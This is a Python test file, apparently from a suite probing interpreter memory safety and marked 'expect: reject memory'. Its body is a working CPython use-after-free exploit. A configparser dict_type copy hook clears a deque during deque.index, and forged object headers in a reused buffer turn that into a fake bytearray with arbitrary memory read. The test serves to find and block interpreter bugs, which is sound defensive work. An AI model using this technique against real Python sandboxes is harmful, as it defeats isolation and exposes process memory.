# expect: reject memory
# line: 22
# why: round 71: a configparser dict_type's copy bound by a for target in its class body: raw memory under 3.11.2
import collections
import configparser

keep = []
dq = collections.deque()
state = {"n": 0, "payload": b""}
N = 25


def table_copy(self):
    state["n"] += 1
    if state["n"] == 1:
        dq.clear()
        keep.append(bytearray(state["payload"]))
    return dict(self)


class Table(dict):
    for copy in [table_copy]:
        pass


class Probe:
    def __eq__(self, other):
        raise LookupError(self)


def w8(v):
    return v.to_bytes(8, "little")


left = configparser.ConfigParser(dict_type=Table)
left.read_string("[s]\nk = v\n")
right = configparser.ConfigParser()
right.read_string("[s]\nk = v\n")
dq.append(tuple([left, 0] + [0] * (N - 2)))
fake = id(dq[0]) + 48
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(Probe), 0, 0]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
mem = None
try:
    dq.index(tuple([right, Probe()] + [0] * (N - 2)))
except LookupError as e:
    mem = e.args[0]
except (RuntimeError, ValueError) as e:
    print(type(e).__name__, e)
print("copy runs:", state["n"], len(keep))
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
